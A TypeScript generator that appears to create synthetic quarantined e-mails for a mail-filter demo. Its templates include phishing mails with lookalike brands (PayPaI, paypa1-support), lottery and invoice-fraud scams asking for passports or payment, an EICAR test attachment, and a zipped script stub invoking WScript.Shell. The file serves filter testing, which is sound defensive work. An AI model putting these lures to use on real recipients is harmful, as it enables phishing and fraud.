<p><a href="https://${host}/c/${ctx.rng.hex(20)}" style="background:#e60023;color:#fff;padding:10px 20px;text-decoration:none">Shop now</a></p>
<p><img src="https://${host}/img/products-${ctx.rng.int(1, 9)}.jpg" width="560" alt="products"></p>
</td></tr>
<tr><td style="font-size:11px;color:#888;padding:20px">You receive this e-mail because you signed up at ${host}.
<a href="https://${host}/unsubscribe?u=${ctx.rng.hex(24)}">Unsubscribe</a></td></tr>
</table>
<img src="https://tracker.example/pixel.gif?c=${ctx.rng.hex(10)}&amp;r=${ctx.rng.hex(10)}" width="1" height="1" alt="">
</body></html>
`;

const SPAM = {
  gtube: (ctx) => ({
    from: { name: 'Spammer', address: 'spammer@bulk-sender.test' },
    subject: 'GTUBE test message',
    text: `This is the GTUBE, the\n\tGeneric\n\tTest for\n\tUnsolicited\n\tBulk\n\tEmail\n\n${GTUBE}\n`,
    reason: 'spam',
    gtube: true,
    attachments: bigPdf(ctx, 'gtube-appendix.pdf'),
  }),
  pharma: (ctx) => ({
    from: ctx.rng.pick<Sender>([
      { name: 'Pharmacy Direct', address: 'sales@rx-discount.test' },
      { name: 'Dr. Health', address: 'info@pills-express.test' },
    ]),
    envelopeFrom: `bounce-${ctx.rng.int(10000, 99999)}@mailer.rx-discount.test`,
    subject: ctx.rng.pick([
      'Cheap meds – 80% off today only',
      'V1agra & C1alis – no prescription needed',
      'Your discreet order is ready',
      'RE: your prescription refill',
    ]),
    text:
      `Hello ${firstName(ctx.to)},\n\nTop quality generics at the lowest prices on the web.\n` +
      `- No prescription required\n- Discreet worldwide shipping\n- 100% money back guarantee\n\n` +
      `Order now: http://rx-discount.test/?ref=${ctx.rng.hex(8)}\n\nTo stop receiving these messages reply STOP.\n`,
    reason: 'spam',
    attachments: bigPdf(ctx, 'catalog.pdf'),
  }),
  lottery: (ctx) => ({
    from: { name: 'International Lottery Commission', address: 'claims@intl-lotto.test' },
    envelopeFrom: 'Grace.Williams1987@FreeMail.test',
    replyTo: 'claims.agent.williams@freemail.test',
    subject: ctx.rng.pick([
      'CONGRATULATIONS!!! You have won €1,000,000.00',
      'WINNING NOTIFICATION – Ref: ILC/2291/77',
      'Urgent: unclaimed funds in your name',
    ]),
    text:
      'Dear Beneficiary,\n\nWe are pleased to inform you that your e-mail address was selected in our annual\n' +
      'international draw and has won the sum of EUR 1,000,000.00 (ONE MILLION EURO).\n\n' +
      'To claim your prize, send your full name, address, phone number and a copy of your passport\n' +
      'to our claims agent Mrs. Grace Williams.\n\nYours faithfully,\nDr. Peter Okafor\nClaims Director\n',
    reason: 'spam',
  }),
  phishing: (ctx) => {
    const [brand, address, host] = ctx.rng.pick([
      ['PayPaI Service', 'service@paypa1-support.test', 'paypa1-support.test'],
      ['Secure Banking', 'no-reply@secure-bank-verify.test', 'secure-bank-verify.test'],
      ['Microsoft 365', 'admin@m365-account-check.test', 'm365-account-check.test'],
      ['Mailbox Administrator', 'postmaster@mailbox-quota.test', 'mailbox-quota.test'],
    ] as const);
    return {
      from: { name: brand, address },
      subject: ctx.rng.pick([
        'Your account has been suspended',
        'Action required: verify your mailbox',
        'Unusual sign-in activity',
        `[${ctx.to.address}] Mailbox quota exceeded`,
      ]),
      text: `Dear customer,\n\nWe detected unusual sign-in activity. Verify your account at https://${host}/verify\n`,
      html: HOSTILE_HTML(ctx, brand, host),
      reason: 'spam',
    };
  },
  crypto: (ctx) => ({
    from: { name: 'Crypto Insider', address: 'news@crypto-insider.test' },
    envelopeFrom: `msprvs1=${ctx.rng.hex(10)}@bounces.crypto-insider.test`,
    subject: ctx.rng.pick([
      'This coin will 100x before Friday',
      'Elon just bought THIS token',
      'Last chance: 3 crypto picks for 2025',
    ]),
    text: 'Our analysts found the next big coin. Buy before it explodes: https://crypto-insider.test/pick\n',
    html: NEWSLETTER_HTML(ctx, 'Crypto Insider', 'The next 100x coin is here', 'crypto-insider.test'),
    headers: { 'List-Unsubscribe': '<https://crypto-insider.test/unsubscribe>' },
    reason: 'spam',
  }),
  cyrillic: () => ({
    from: { name: 'Анна Петрова', address: 'anna.petrova@mail-ru.test' },
    subject: 'Увеличьте продажи в 3 раза — бесплатная консультация',
    text:
      'Здравствуйте!\n\nМы поможем вашему бизнесу привлечь новых клиентов. Рассылки, реклама,\n' +
      'продвижение в поисковых системах. Первая консультация бесплатно.\n\nС уважением,\nАнна\n',
    textEncoding: 'base64',
    dateOffset: 180,
    reason: 'spam',
  }),
  cyrillic1251: (ctx) => ({
    from: { name: 'Outlet', address: 'sale@outlet-msk.test' },
    subject: 'Скидки до 70% только сегодня',
    text: 'Распродажа! Скидки до 70% на всю коллекцию. Только сегодня: http://outlet-msk.test/\n',
    dateOffset: 180,
    reason: 'spam',
    rewrite: (mail) => ({
      ...mail,
      head: replaceHeader(
        mail.head,
        'Subject',
        encodedWordB('windows-1251', encodeWindows1251('Скидки до 70% только сегодня')),
      ),
    }),
    attachments: bigPdf(ctx, 'price-list.pdf'),
  }),
  japanese: () => {
    const subject = '【セール】ポイントがもらえるキャンペーン';
    return {
      from: { name: '山田 花子', address: 'hanako.yamada@shop-jp.test' },
      subject,
      text:
        'いつもご利用いただきありがとうございます。\n期間限定のキャンペーンを開催中です。\n' +
        '今すぐチェックしてください: https://shop-jp.test/campaign\n',
      dateOffset: 540,
      reason: 'spam',
      rewrite: (mail) => ({
        ...mail,
        head: replaceHeader(mail.head, 'Subject', encodedWordB('ISO-2022-JP', encodeIso2022jp(subject))),
      }),
    };
  },
  german: (ctx) => ({
    from: { name: 'Jürgen Müller', address: 'j.mueller@gewinnspiel.test' },
    subject: 'Glückwunsch! Ihr Gewinn über 5.000 EUR wartet auf Sie',
    text:
      `Hallo ${firstName(ctx.to)},\n\nSie wurden als Gewinner ausgewählt! Bestätigen Sie jetzt Ihre Daten,\n` +
      'damit wir Ihnen den Gewinn überweisen können.\n\nMit freundlichen Grüßen\nJürgen Müller\n',
    dateOffset: 60,
    reason: 'spam',
    rewrite: (mail) => {
      let head = replaceHeader(
        mail.head,
        'From',
        `${encodeLatin1Q('Jürgen Müller')} <j.mueller@gewinnspiel.test>`,
      );
      head = replaceHeader(
        head,
        'Subject',
        encodeLatin1Q('Glückwunsch! Ihr Gewinn über 5.000 EUR wartet auf Sie'),
      );
      return { ...mail, head };
    },
  }),
  emoji: (ctx) => ({
    from: { name: 'Hot Deals 🔥', address: 'deals@megastore.test' },
    subject: '🔥🔥 Up to 90% off – today only! 🛍️',
    text: 'Flash sale! Everything must go. https://megastore.test/flash\n',
    html: NEWSLETTER_HTML(ctx, 'MegaStore', '🔥 Flash sale: up to 90% off', 'megastore.test'),
    reason: 'spam',
  }),
  invoice: (ctx) => ({
    from: { name: 'Accounts Payable', address: 'ap@invoices-portal.test' },
    envelopeFrom: `ap-${ctx.rng.hex(6)}@compromised-host.test`,
    subject: `Invoice #INV-${ctx.rng.int(10000, 99999)} overdue`,
    text:
      `Hi ${firstName(ctx.to)},\n\nPlease find attached the overdue invoice. Payment is due immediately to\n` +
      'avoid a late fee. Bank details have changed, see the attached document.\n\nRegards,\nAccounts Payable\n',
    attachments: ctx.big
      ? bigPdf(ctx, 'invoice.pdf')
      : [{ filename: 'invoice.pdf', content: fakePdf(ctx.rng, ctx.rng.int(2000, 6000), 'Invoice') }],
    reason: 'spam',
  }),
  image: () => ({
    from: { name: 'Watches Outlet', address: 'promo@replica-watches.test' },
    subject: 'Luxury watches at 10% of the price',
    html:
      '<html><body><a href="https://replica-watches.test/shop"><img src="cid:offer@replica" width="600" ' +
      'alt=""></a><p style="color:#fefefe;font-size:1px">weather garden teacher window</p></body></html>\n',
    attachments: [
      { filename: 'offer.png', content: PNG_1X1, contentType: 'image/png', cid: 'offer@replica' },
    ],
    reason: 'spam',
  }),
  backscatter: (ctx) => {
    const spamId = `<${ctx.rng.hex(16)}@${DEMO_HOST}>`;
    const bounced =
      `From: ${ctx.to.address}\nTo: victim@remote-host.test\nSubject: Re: your order\nMessage-ID: ${spamId}\n` +
      `Date: ${rfc2822(ctx.time - 7200)}\n\nBuy cheap watches at https://replica-watches.test/\n`;
    return {
      from: { name: 'Mail Delivery System', address: 'MAILER-DAEMON@mx.remote-host.test' },
      envelopeFrom: '',
      subject: 'Undelivered Mail Returned to Sender',
      text:
        "This is the mail system at host mx.remote-host.test.\n\nI'm sorry to have to inform you that your message " +
        'could not\nbe delivered to one or more recipients.\n\n<victim@remote-host.test>: host ' +
        'mail.remote-host.test said: 550 5.1.1\n    User unknown (in reply to RCPT TO command)\n',
      attachments: [
        {
          filename: 'details.txt',
          contentType: 'message/delivery-status',
          content:
            'Reporting-MTA: dns; mx.remote-host.test\n\nFinal-Recipient: rfc822; victim@remote-host.test\n' +
            'Action: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n',
        },
        { filename: 'message.eml', contentType: 'message/rfc822', content: bounced },
      ],
      reason: 'spam',
      rewrite: (mail) => ({
        ...mail,
        head: mail.head.replace(
          /Content-Type: multipart\/mixed;/,
          'Content-Type: multipart/report; report-type=delivery-status;',
        ),
      }),
    };
  },
  longSubject: () => ({
    from: { name: '通販ショップ', address: 'info@tsuhan-shop.test' },
    subject:
      '【期間限定】全品ポイント10倍キャンペーン開催中！人気商品が今だけ特別価格でお買い求めいただけます。' +
      'お見逃しなく、この機会にぜひご利用ください。送料無料、即日発送、返品保証つき。会員様限定の特別クーポンも配布中です。',
    text: 'キャンペーン開催中です。https://tsuhan-shop.test/\n',
    dateOffset: 540,
    reason: 'spam',
  }),
} satisfies Record<string, Scenario>;

const SPAMMY = {
  newsletter: (ctx) => {
    const [brand, address, host, subjects] = ctx.rng.pick([
      [
        'Fashion Outlet',
        'newsletter@fashion-outlet.test',
        'fashion-outlet.test',
        ['Weekend sale: extra 20% off', 'New arrivals just for you'],
      ],
      [
        'Cheap Flights',
        'offers@cheap-flights.test',
        'cheap-flights.test',
        ['Flights from 19 EUR – book now', 'Your exclusive member fares'],
      ],
      [
        'Gadget World',
        'news@gadget-world.test',
        'gadget-world.test',
        ['Your exclusive member offer', 'The new X12 Pro is here'],
      ],
    ] as const);
    return {
      from: { name: brand, address },
      envelopeFrom: `bounce+${ctx.rng.hex(12)}@em.${host}`,
      subject: ctx.rng.pick(subjects),
      text: `${brand}: our best offers this week. https://${host}/\n`,
      html: NEWSLETTER_HTML(ctx, brand, 'This week only', host),
      headers: {
        'List-Unsubscribe': `<https://${host}/unsubscribe>, <mailto:unsubscribe@${host}>`,
        'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click',
        Precedence: 'bulk',
      },
      attachments: bigPdf(ctx, 'catalogue.pdf'),
    };
  },
  seo: (ctx) => ({
    from: { name: 'Rank First SEO', address: 'hello@rank-first.test' },
    subject: ctx.rng.pick([
      `Quick question about ${ctx.to.address.split('@')[1]}`,
      'Get your website on page 1 of Google',
      'Re: website redesign proposal',
    ]),
    text:
      `Hi ${firstName(ctx.to)},\n\nI was checking your website and noticed a few issues that keep it from ranking\n` +
      'on the first page. We can fix them for a small monthly fee.\n\nWould you be interested in a free audit?\n\n' +
      'Best,\nSteve\n',
  }),
  webinar: (ctx) => ({
    from: { name: 'SaaS Webinars', address: 'events@saas-webinars.test' },
    subject: 'Invitation: Scaling your team in 2025 (live webinar)',
    text: `Hi ${firstName(ctx.to)},\n\nJoin our free live webinar next Thursday at 17:00 CET.\nRegister: https://saas-webinars.test/r/${ctx.rng.hex(8)}\n`,
    html: NEWSLETTER_HTML(ctx, 'SaaS Webinars', 'Join us live next Thursday', 'saas-webinars.test'),
  }),
  cart: (ctx) => ({
    from: { name: 'Gadget World', address: 'noreply@gadget-world.test' },
    subject: 'You left something in your cart 🛒',
    text: 'Complete your order now and get 10% off: https://gadget-world.test/cart\n',
    html: NEWSLETTER_HTML(ctx, 'Gadget World', 'Still thinking about it?', 'gadget-world.test'),
  }),
  japaneseNews: () => ({
    from: { name: 'ショップ通信', address: 'news@shop-jp.test' },
    subject: 'ポイント2倍セールのおしらせ',
    text: 'いつもありがとうございます。ポイント2倍セールを開催します。\n',
    dateOffset: 540,
  }),
} satisfies Record<string, Scenario>;

const CLEAN = {
  meeting: (ctx) => ({
    from: ctx.rng.pick<Sender>([
      { name: 'Maria Rossi', address: 'maria.rossi@partner.test' },
      { name: 'Klaus Becker', address: 'k.becker@lieferant.test' },
      { name: 'Sophie Laurent', address: 'sophie.laurent@agence.test' },
    ]),
    subject: ctx.rng.pick([
      'Meeting notes – project kickoff',
      'Re: Termin nächste Woche',
      'Agenda for Thursday',
      'Fwd: updated timeline',
    ]),
    text:
      `Hi ${firstName(ctx.to)},\n\nthanks for the call today. As discussed:\n\n1. We deliver the first draft by Friday.\n` +
      '2. Review meeting on Tuesday at 10:00.\n3. Grüße an das Team – bis bald!\n\nBest regards\n',
    attachments: bigPdf(ctx, 'minutes.pdf'),
  }),
  invoice: (ctx) => ({
    from: { name: 'Hosting Provider Billing', address: 'billing@hosting-provider.test' },
    subject: `Your invoice ${ctx.rng.int(2024000, 2024999)} is available`,
    text: `Hello,\n\nyour monthly invoice is attached. Amount due: ${ctx.rng.int(5, 90)}.00 EUR.\n\nThank you for your business.\n`,
    attachments: ctx.big
      ? bigPdf(ctx, 'invoice.pdf')
      : [{ filename: 'invoice.pdf', content: fakePdf(ctx.rng, ctx.rng.int(3000, 9000), 'Invoice') }],
  }),
  digest: (ctx) => ({
    from: { name: 'Open Source Weekly', address: 'digest@oss-weekly.test' },
    subject: 'Open Source Weekly #214',
    text: 'This week: new releases, security advisories and community news.\n',
    html: NEWSLETTER_HTML(ctx, 'Open Source Weekly', 'Issue #214', 'oss-weekly.test'),
    headers: { 'List-Id': 'Open Source Weekly <weekly.oss-weekly.test>' },
  }),
  latin1Body: () => ({
    from: { name: 'Klaus Becker', address: 'k.becker@lieferant.test' },
    subject: 'Lieferschein und Rechnung',
    text: 'placeholder\n',
    singlePart: true,
    // Latin-1 bytes in an 8-bit body that claims to be UTF-8, as old mail clients send it.
    rewrite: (mail) => ({
      head: replaceHeader(
        replaceHeader(mail.head, 'Content-Type', 'text/plain; charset=utf-8'),
        'Content-Transfer-Encoding',
        '8bit',
      ),
      body: Buffer.from(
        'Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie den Lieferschein für Ihre Bestellung.\n' +
          'Die Ware wird Anfang nächster Woche geliefert. Für Rückfragen stehe ich gern zur Verfügung.\n\n' +
          'Mit freundlichen Grüßen\nKlaus Becker\nLieferant GmbH, Königstraße 12, München\n',
        'latin1',
      ),
    }),
  }),
} satisfies Record<string, Scenario>;

const VIRUS = {
  eicarCom: (ctx) => ({
    from: { name: 'Scanner', address: `scanner-${ctx.rng.int(100, 999)}@office-printer.test` },
    subject: ctx.rng.pick(['Scanned document', 'Your scan is ready', 'Message from KM_C364e']),
    text: 'Please find the scanned document attached.\n',
    attachments: [
      { filename: 'eicar.com', content: EICAR, contentType: 'application/octet-stream' },
      ...bigPdf(ctx, 'scan.pdf'),
    ],
    alert: 'INFECTED, message contains virus: Eicar-Signature',
    reason: 'INFECTED: Eicar-Signature',
  }),
  eicarZip: (ctx) => ({
    from: { name: 'DHL Express', address: 'tracking@dhl-delivery-notice.test' },
    subject: `Shipment ${ctx.rng.int(1000000000, 9999999999)}: delivery failed`,
    text: 'We could not deliver your parcel. Open the attached label and bring it to your post office.\n',
    attachments: [
      {
        filename: 'label.zip',
        content: zipStore([{ name: 'label.com', data: Buffer.from(EICAR, 'latin1') }]),
        contentType: 'application/zip',
      },
    ],
    alert: 'INFECTED, message contains virus: Eicar-Signature',
    reason: 'INFECTED: Eicar-Signature',
  }),
} satisfies Record<string, Scenario>;

const BANNED = {
  exe: (ctx) => ({
    from: {
      name: 'Accounts',
      address: `accounts@${ctx.rng.pick(['billing-dept.test', 'invoice-center.test'])}`,
    },
    subject: ctx.rng.pick(['Invoice attached', 'Payment confirmation', 'Re: outstanding invoice']),
    text: 'Hello,\n\nplease see the attached invoice and confirm payment.\n\nThanks\n',
    attachments: [
      {
        filename: 'invoice.exe',
        content: fakeExe(ctx.rng, ctx.big ? ctx.bigSize : ctx.rng.int(1500, 6000)),
        contentType: 'application/x-msdownload',
      },
    ],
    alert: 'BANNED, message contains invoice.exe',
    reason: 'BANNED: application/x-msdownload,.exe,.exe-ms,invoice.exe',
  }),
  zipJs: () => ({
    from: { name: 'DHL Express', address: 'noreply@dhl-parcel-info.test' },
    subject: 'Your parcel is on its way',
    text: 'Your shipping label is attached.\n',
    attachments: [
      {
        filename: 'DHL_Shipment.zip',
        content: zipStore([
          {
            name: 'shipment_label.js',
            data: Buffer.from('var x=new ActiveXObject("WScript.Shell");\n', 'latin1'),
          },
        ]),
        contentType: 'application/zip',
      },
    ],
    alert: 'BANNED, message contains DHL_Shipment.zip | shipment_label.js',
    reason: 'BANNED: application/zip,.zip,DHL_Shipment.zip | .asc,shipment_label.js',
  }),
} satisfies Record<string, Scenario>;

const BAD_HEADER = {
  raw8bit: () => ({
    from: { name: 'Günther Groß', address: 'guenther@versandhandel.test' },
    subject: 'Ihre Bestellung über 49,90 € – Lieferung heute',
    text: 'Guten Tag,\n\nIhre Bestellung wurde versandt.\n',
    alert:
      'BAD HEADER SECTION, Non-encoded 8-bit data (char C3 hex): From: G\\xC3\\xBCnther Gro\\xC3\\x9F <guenther@versan[...]',
    rewrite: (mail) => {
      let head = replaceHeader(mail.head, 'From', utf8AsLatin1('Günther Groß <guenther@versandhandel.test>'));
      head = replaceHeader(head, 'Subject', utf8AsLatin1('Ihre Bestellung über 49,90 € – Lieferung heute'));
      return { ...mail, head };
    },
  }),
  duplicateMessageId: (ctx) => ({
    from: { name: 'Ticket System', address: 'helpdesk@service-desk.test' },
    subject: `[Ticket #${ctx.rng.int(10000, 99999)}] Status update`,
    text: 'Your ticket has been updated. Reply to this message to add a comment.\n',
    alert: 'BAD HEADER SECTION, Duplicate header field: "Message-ID"',
    rewrite: (mail) => {
      const id = headerValue(mail.head, 'Message-ID') ?? '<x@service-desk.test>';
      return {
        ...mail,
        head: insertHeaderAfter(mail.head, 'Message-ID', `Message-ID: ${id.replace('@', '.dup@')}`),
      };
    },
  }),
} satisfies Record<string, Scenario>;

const BAD_MIME = {
  truncated: (ctx) => ({
    from: { name: 'Office Printer', address: 'printer@branch-office.test' },
    subject: 'Document from printer',
    text: 'Attached document.\n',
    attachments: [{ filename: 'document.pdf', content: fakePdf(ctx.rng, ctx.rng.int(2000, 5000), 'Scan') }],
    alert: 'BAD HEADER SECTION, MIME error: error: part did not end with expected boundary',
    // The final boundary delimiter is missing.
    rewrite: (mail) => {
      const body = mail.body.toString('latin1').replace(/\n--[^\n]*--\n*$/, '\n');
      return { ...mail, body: Buffer.from(body, 'latin1') };
    },
  }),
} satisfies Record<string, Scenario>;

const OVERSIZED = {
  photos: (ctx) => ({
    from: { name: 'Event Photographer', address: 'photos@event-studio.test' },
    subject: ctx.rng.pick(['Photos from the event', 'Quarterly report (draft)', 'Scans of the contract']),
    text: 'Here are the files, sorry for the size.\n',
    attachments: [
      {
        filename: 'files.pdf',
        content: fakePdf(ctx.rng, ctx.bigSize, 'Files'),
        contentType: 'application/pdf',
      },
    ],
  }),
} satisfies Record<string, Scenario>;

const UNCHECKED = {
  encryptedZip: (ctx) => ({
    from: { name: 'Legal Department', address: 'legal@law-firm.test' },
    subject: 'Confidential documents',
    text: 'The documents are attached. The password follows in a separate message.\n',
    attachments: [
      {
        filename: 'documents.zip',
        content: zipStore([{ name: 'contract.docx', data: ctx.rng.bytes(ctx.rng.int(2000, 6000)) }], true),
        contentType: 'application/zip',
      },
      ...bigPdf(ctx, 'cover-letter.pdf'),
    ],
  }),
} satisfies Record<string, Scenario>;

const SCENARIOS: Record<Ccat, readonly { key: Scenario; weight: number; min: number }[]> = {
  S: [
    { key: SPAM.gtube, weight: 0, min: 2 },
    { key: SPAM.backscatter, weight: 1, min: 2 },
    { key: SPAM.phishing, weight: 3, min: 3 },
    { key: SPAM.japanese, weight: 0.5, min: 1 },
    { key: SPAM.cyrillic, weight: 1, min: 1 },
    { key: SPAM.cyrillic1251, weight: 0.5, min: 1 },
    { key: SPAM.german, weight: 1, min: 1 },
    { key: SPAM.emoji, weight: 1, min: 1 },
    { key: SPAM.longSubject, weight: 0, min: 1 },
    { key: SPAM.pharma, weight: 4, min: 0 },
    { key: SPAM.lottery, weight: 3, min: 0 },
    { key: SPAM.crypto, weight: 2, min: 0 },
    { key: SPAM.invoice, weight: 2, min: 0 },
    { key: SPAM.image, weight: 1, min: 0 },
  ],
  Y: [
    { key: SPAMMY.newsletter, weight: 4, min: 1 },
    { key: SPAMMY.seo, weight: 3, min: 0 },
    { key: SPAMMY.webinar, weight: 2, min: 0 },
    { key: SPAMMY.cart, weight: 1, min: 0 },
    { key: SPAMMY.japaneseNews, weight: 1, min: 1 },
  ],
  s: [
    { key: SPAMMY.seo, weight: 1, min: 0 },
    { key: SPAMMY.newsletter, weight: 1, min: 0 },
  ],
  V: [
    { key: VIRUS.eicarCom, weight: 1, min: 1 },
    { key: VIRUS.eicarZip, weight: 1, min: 1 },
  ],
  B: [
    { key: BANNED.exe, weight: 3, min: 1 },
    { key: BANNED.zipJs, weight: 1, min: 1 },
  ],
  H: [
    { key: BAD_HEADER.raw8bit, weight: 1, min: 1 },
    { key: BAD_HEADER.duplicateMessageId, weight: 2, min: 1 },
  ],
  M: [{ key: BAD_MIME.truncated, weight: 1, min: 0 }],
  O: [{ key: OVERSIZED.photos, weight: 1, min: 0 }],
  U: [{ key: UNCHECKED.encryptedZip, weight: 1, min: 0 }],
  T: [
    { key: CLEAN.meeting, weight: 1, min: 0 },
    { key: CLEAN.invoice, weight: 1, min: 0 },
  ],
  C: [
    { key: CLEAN.latin1Body, weight: 0, min: 1 },
    { key: CLEAN.meeting, weight: 3, min: 0 },
    { key: CLEAN.invoice, weight: 2, min: 0 },
    { key: CLEAN.digest, weight: 2, min: 0 },
  ],
  '?': [{ key: CLEAN.meeting, weight: 1, min: 0 }],
};

// ---------------------------------------------------------------------------------------------------
// Rows

type MaddrRow = AmavisTables['maddrTable']['$inferInsert'];
type MsgsRow = AmavisTables['msgsTable']['$inferInsert'];
type MsgrcptRow = AmavisTables['msgrcptTable']['$inferInsert'];
type QuarantineRow = AmavisTables['quarantineTable']['$inferInsert'];

interface Dataset {
  maddr: { email: string; domain: string }[];
  msgs: MsgsRow[];
  msgrcpt: MsgrcptRow[];
  quarantine: QuarantineRow[];
}

interface Slot {
  time: number;
  kind: 'quarantined' | 'logged' | 'processing';
  ccat: Ccat | null;
  amId: string;
  big: boolean;
  huge: boolean;
  /** How many quarantine chunks a big message should take (2..5). */
  chunks: number;
  recipients: number;
  foreign: boolean;
  scenario: Scenario | null;
}

const RS_MIX = [
  { key: ' ', weight: 70, min: 1 },
  { key: 'V', weight: 10, min: 1 },
  { key: 'R', weight: 5, min: 1 },
  { key: 'p', weight: 5, min: 1 },
  { key: 'S', weight: 4, min: 1 },
  { key: 'H', weight: 3, min: 1 },
  { key: 'D', weight: 3, min: 1 },
] as const;

function pickRecipients(rng: Random, count: number, foreign: boolean): LocalUser[] {
  const users: LocalUser[] = [];
  const weighted = LOCAL_USERS.map((u) => [u, u.weight] as const);
  while (users.length < count - (foreign ? 1 : 0)) {
    const u = rng.weighted(weighted);
    if (!users.includes(u)) users.push(u);
  }
  if (foreign) users.push(rng.pick(FOREIGN_RECIPIENTS));
  return users;
}

function clientAddress(rng: Random): string {
  return rng.chance(0.12)
    ? `2001:db8:${rng.int(1, 0xffff).toString(16)}::${rng.int(1, 0xffff).toString(16)}`
    : `${rng.pick(['192.0.2', '198.51.100', '203.0.113'])}.${rng.int(1, 254)}`;
}

interface Composed {
  original: Buffer;
  messageId: string;
  fromHeader: string;
  subjectHeader: string;
}

async function compose(
  rng: Random,
  spec: MailSpec,
  rcpts: LocalUser[],
  time: number,
  client: string,
): Promise<Composed> {
  const senderDomain = spec.from.address.split('@')[1] ?? 'localhost';
  const messageId = `<${rng.hex(8)}.${rng.hex(12)}@${senderDomain.toLowerCase()}>`;
  const composer = new MailComposer({
    from: spec.from.name ? { name: spec.from.name, address: spec.from.address } : spec.from.address,
    to: rcpts.map((r) => ({ name: r.name, address: r.wire ?? r.address })),
    replyTo: spec.replyTo,
    subject: spec.subject,
    messageId,
    date: rfc2822(time - (spec.dateSkew ?? 0), spec.dateOffset ?? 0),
    text: spec.text,
    html: spec.html,
    attachments: spec.attachments?.map((a) => ({
      filename: a.filename,
      content: a.content,
      contentType: a.contentType,
      cid: a.cid,
    })),
    headers: spec.headers,
    textEncoding: spec.textEncoding,
    baseBoundary: rng.hex(16),
    newline: '\n',
  });
  let built = (await composer.compile().build()).toString('latin1').replace(/\r\n/g, '\n');
  if (!built.endsWith('\n')) built += '\n';
  let mail = splitRaw(Buffer.from(built, 'latin1'));
  if (spec.rewrite) mail = spec.rewrite(mail);
  // The MTA's Received line, on top of what the sender's client wrote.
  const heloHost = /^(mx|mail)\d*\./i.test(senderDomain)
    ? senderDomain.toLowerCase()
    : `mx${rng.int(1, 4)}.${senderDomain.toLowerCase()}`;
  const received =
    `Received: from ${heloHost} (${rng.chance(0.3) ? 'unknown' : heloHost} [${client}])\n` +
    `\tby ${DEMO_HOST} (Postfix) with ESMTP id ${rng.alnum(12)}\n` +
    `\tfor <${(rcpts[0] as LocalUser).wire ?? (rcpts[0] as LocalUser).address}>; ${rfc2822(time - 1)} (UTC)`;
  mail = { ...mail, head: `${received}\n${mail.head}` };
  return {
    original: joinRaw(mail),
    messageId: headerValue(mail.head, 'Message-ID') ?? messageId,
    fromHeader: headerValue(mail.head, 'From') ?? '',
    subjectHeader: headerValue(mail.head, 'Subject') ?? '',
  };
}

/** The header block amavisd puts in front of a quarantined message. */
function amavisHeaders(args: {
  envelopeFrom: string;
  rcpts: LocalUser[];
  blocked: LocalUser[];
  mailId: string;
  alert?: string;
  sa: SaResult | null;
  time: number;
  autolearn: string;
}): string {
  const wire = (u: LocalUser) => `<${u.wire ?? u.address}>`;
  const lines = [
    `X-Envelope-From: <${args.envelopeFrom}>`,
    foldTokens('X-Envelope-To', args.rcpts.map(wire), ','),
  ];
  if (args.blocked.length > 0) lines.push(foldTokens('X-Envelope-To-Blocked', args.blocked.map(wire), ','));
  lines.push(`X-Quarantine-ID: <${args.mailId}>`);
  if (args.alert) lines.push(`X-Amavis-Alert: ${args.alert}`);
  if (args.sa) {
    const { score, tests } = args.sa;
    const yes = score >= TAG2_LEVEL;
    lines.push(`X-Spam-Flag: ${yes ? 'YES' : 'NO'}`);
    lines.push(`X-Spam-Score: ${formatScore(score)}`);
    const stars = Math.max(0, Math.min(64, Math.floor(score)));
    if (stars > 0) lines.push(`X-Spam-Level: ${'*'.repeat(stars)}`);
    const words = [
      `${yes ? 'Yes' : 'No'},`,
      `score=${formatScore(score)}`,
      `tag=${TAG_LEVEL}`,
      `tag2=${TAG2_LEVEL}`,
      `kill=${KILL_LEVEL}`,
      ...tests.map(
        ([n, v], i) => `${i === 0 ? 'tests=[' : ''}${n}=${String(v)}${i === tests.length - 1 ? ']' : ','}`,
      ),
      `autolearn=${args.autolearn}`,
      'autolearn_force=no',
    ];
    lines.push(foldTokens('X-Spam-Status', words, ''));
  }
  const single = args.rcpts.length === 1 ? ` for ${wire(args.rcpts[0] as LocalUser)}` : '';
  lines.push(
    `Received: from ${DEMO_HOST} ([127.0.0.1])\n by localhost (${DEMO_HOST} [127.0.0.1]) (amavis, port 10024)\n` +
      ` with ESMTP id ${args.mailId}${single};\n ${rfc2822(args.time)} (UTC)`,
  );
  return `${lines.join('\n')}\n`;
}

function chunk(raw: Buffer): Buffer[] {
  const chunks: Buffer[] = [];
  for (let at = 0; at < raw.length; at += QUARANTINE_CHUNK_SIZE) {
    chunks.push(raw.subarray(at, Math.min(raw.length, at + QUARANTINE_CHUNK_SIZE)));
  }
  return chunks;
}

/** The size amavisd logs: the original message as received over SMTP, i.e. with CRLF line ends. */
function smtpSize(original: Buffer): number {
  let lf = 0;
  for (const b of original) if (b === 0x0a) lf++;
  return original.length + lf;
}

function planSlots(rng: Random, count: number, nowSec: number): Slot[] {
  const ccats = allocate(rng, count, CCAT_MIX);
  const logged = Math.max(3, Math.round(count / 25));
  const slots: Slot[] = [];
  const timeIn14Days = () => nowSec - rng.int(120, DAYS * 86400 - 1);
  ccats.forEach((ccat) => {
    slots.push({
      time: timeIn14Days(),
      kind: 'quarantined',
      ccat,
      amId: '',
      big: ccat === 'O',
      huge: false,
      chunks: 1,
      recipients: 1,
      foreign: false,
      scenario: null,
    });
  });
  // Recipient counts, foreign recipients, large messages: allocated, so the minimums always exist.
  const rcptCounts = allocate(rng, slots.length, [
    { key: 1, weight: 83, min: 0 },
    { key: 2, weight: 12, min: 2 },
    { key: 3, weight: 5, min: 1 },
  ]);
  slots.forEach((s, i) => {
    s.recipients = rcptCounts[i] ?? 1;
  });
  const multi = slots.filter((s) => s.recipients > 1);
  const foreign = Math.min(multi.length, Math.max(2, Math.round(multi.length / 6)));
  for (const s of rng.shuffle([...multi]).slice(0, foreign)) s.foreign = true;
  const bigCandidates = slots.filter((s) => !s.big && s.ccat !== 'M');
  const big = Math.min(
    bigCandidates.length,
    Math.max(Math.round(count * 0.05), Math.min(6, Math.floor(count / 4))),
  );
  rng
    .shuffle([...bigCandidates])
    .slice(0, big)
    .forEach((s, i) => {
      s.big = true;
      s.chunks = 2 + (i % 4);
    });
  for (const s of slots) if (s.ccat === 'O') s.chunks = rng.int(4, 5);
  const hugeOne = slots.find((s) => s.ccat === 'O') ?? slots.find((s) => s.big);
  if (hugeOne) {
    hugeOne.big = true;
    hugeOne.huge = true;
  }
  for (const ccat of Object.keys(SCENARIOS) as Ccat[]) {
